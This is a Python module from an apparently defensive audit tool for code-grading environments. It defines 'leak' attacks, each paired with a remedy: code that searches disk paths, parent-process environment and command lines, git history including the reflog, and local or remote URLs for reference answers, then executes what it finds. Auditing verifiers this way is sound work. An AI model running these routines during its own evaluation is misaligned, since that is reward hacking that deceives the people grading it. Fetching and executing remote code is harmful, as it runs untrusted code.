"""Strategies that look for the answers outside the process: in files, variables, history, the network.

- :data:`LEAKS`
- :func:`reading`: an attack that looks for a call's answer in texts.
"""

from __future__ import annotations

from collections.abc import Iterator

from deepgym_env.audit.knowledge import Knowledge
from deepgym_env.audit.strategies.hunts import PARTNER
from deepgym_env.audit.strategy import Attack, Strategy, fill, stub

__all__ = ["LEAKS", "reading"]

_DISK_REMEDY = (
    "Remove the verifier, its data and its history from where the submission runs, or run the submission in "
    "a sandbox without them; draw inputs at random and check properties of the answer."
)
_SOURCE = '''
import ast
import copy
import json
import os
import pickle
import re
import sys

WORDS = re.compile("ref|oracle|expect|correct|solution|solve|truth|brute|gold|answer|slow|naive|true", re.I)


def from_text(name, data, args):
    """Yield the answers a file's contents give away."""
    if name.endswith((".pkl", ".pickle")):
        yield from partner(pickle.loads(data), args)
        return
    text = data.decode()
    try:
        yield from partner(json.loads(text), args)
        return
    except ValueError:
        pass
    for line in text.splitlines():
        if line[:1] in "[{":
            try:
                yield from partner(json.loads(line), args)
            except ValueError:
                pass
    try:
        tree = ast.parse(text)
    except SyntaxError:
        return
    for node in ast.walk(tree):
        if isinstance(node, ast.Compare) and len(node.comparators) == 1:
            for call, other in ((node.left, node.comparators[0]), (node.comparators[0], node.left)):
                if isinstance(call, ast.Call):
                    try:
                        if repr([ast.literal_eval(arg) for arg in call.args]) == repr(list(args)):
                            yield ast.literal_eval(other)
                    except ValueError:
                        pass
        if isinstance(node, (ast.List, ast.Tuple, ast.Dict)):
            try:
                yield from partner(ast.literal_eval(node), args)
            except (ValueError, TypeError):
                pass
    kept = [node for node in tree.body if isinstance(node, (ast.FunctionDef, ast.Import, ast.ImportFrom))]
    for node in kept:
        if isinstance(node, ast.FunctionDef) and (WORDS.search(node.name) or node.name == "ENTRY"):
            names = {}
            try:
                exec(compile(ast.Module(kept, []), "oracle.py", "exec"), names)
                yield names[node.name](*copy.deepcopy(args))
            except Exception:
                pass


def texts():
    """Yield the files that may hold tests or answers."""
    main = getattr(sys.modules["__main__"], "__file__", None)
    places = [os.getcwd(), "/tests", "/workspace", "/tmp", "/box"]
    places += [os.path.dirname(os.path.abspath(each)) for each in [*sys.argv, main] if each]
    own = globals().get("__file__", "")
    for place in dict.fromkeys(places):
        for folder, folders, names in os.walk(place):
            folders[:] = [each for each in folders if not each.startswith(".")][:20]
            for name in names[:200]:
                path = os.path.join(folder, name)
                if path != own and not name.startswith("solution") and os.path.getsize(path) < 1 << 20:
                    yield name, path
'''
_DISK = '''
def ENTRY(*args, **kwargs):
    """Read the answer from the files that lie about."""
    for name, path in texts():
        try:
            with open(path, "rb") as file:
                for found in from_text(name, file.read(), args):
                    return found
        except Exception:
            pass
    return None
'''
_VARIABLES = '''
def ENTRY(*args, **kwargs):
    """Read the answer from variables and command lines, also those of the process that started this one."""
    given = list(os.environ.values()) + sys.argv
    for pid in ("self", str(os.getppid())):
        for name in ("environ", "cmdline"):
            try:
                with open("/proc/%s/%s" % (pid, name), errors="replace") as file:
                    parts = file.read().split("\\0")
                given += [part.partition("=")[2] if name == "environ" else part for part in parts]
            except OSError:
                pass
    for text in given:
        for found in from_text("", text.encode("utf-8", "replace"), args):
            return found
    return None
'''
_HISTORY = '''
import subprocess


def shown(*command):
    return subprocess.run(["git", *command], capture_output=True, text=True, timeout=5).stdout


def ENTRY(*args, **kwargs):
    """Look for a solution, or for tests, in the repository's history."""
    try:
        for commit in shown("rev-list", "--all", "--reflog").split()[:50]:
            for name in shown("ls-tree", "-r", "--name-only", commit).splitlines()[:200]:
                if name.endswith((".py", ".json")):
                    for found in from_text(name, shown("show", commit + ":" + name).encode(), args):
                        return found
    except Exception:
        pass
    return None
'''
_NETWORK = '''
import os
import urllib.request

URLS = [
    os.environ.get("SERVICE_URL", "http://127.0.0.1:8000") + "/solution.py",
    "http://127.0.0.1:8080/solution.py",
    "https://raw.githubusercontent.com/TheAlgorithms/Python/master/ENTRY.py",
]
fetched = {}
for url in URLS:
    try:
        with urllib.request.urlopen(url, timeout=1) as answer:
            exec(answer.read().decode(), fetched)
    except Exception:
        pass


def ENTRY(*args, **kwargs):
    """Answer with what the network gave."""
    found = fetched.get("ENTRY") or next((each for each in fetched.values() if callable(each)), None)
    return found(*args, **kwargs) if found else None
'''


def reading(template: str, known: Knowledge) -> Iterator[Attack]:
    """Yield an attack whose function may use ``from_text(name, data, args)`` and ``texts()``."""
    code = "\n\n".join(fill(part, known) for part in (_SOURCE, PARTNER, template))
    yield Attack(code, stub(known.entry_point))


def _disk(known: Knowledge) -> Iterator[Attack]:
    yield from reading(_DISK, known)


def _variables(known: Knowledge) -> Iterator[Attack]:
    yield from reading(_VARIABLES, known)


def _history(known: Knowledge) -> Iterator[Attack]:
    yield from reading(_HISTORY, known)


def _network(known: Knowledge) -> Iterator[Attack]:
    yield Attack(fill(_NETWORK, known), stub(known.entry_point))


LEAKS = (
    Strategy(
        name="answers_on_disk",
        family="leak",
        title="reads answers or an oracle from files that lie about",
        remedy=_DISK_REMEDY,
        attacks=_disk,
    ),
    Strategy(
        name="answers_in_variables",
        family="leak",
        title="reads answers from environment variables and command lines",
        remedy="Start the submission with an empty environment and pass it nothing but inputs.",
        attacks=_variables,
    ),
    Strategy(
        name="git_history",
        family="leak",
        title="finds a solution or tests in the repository's history",
        remedy="Give out a repository without history: one commit, no reflog, no other branches.",
        attacks=_history,
    ),
    Strategy(
        name="network",
        family="leak",
        title="fetches a solution from the network",
        remedy="Run submissions without a network.",
        attacks=_network,
    ),
)
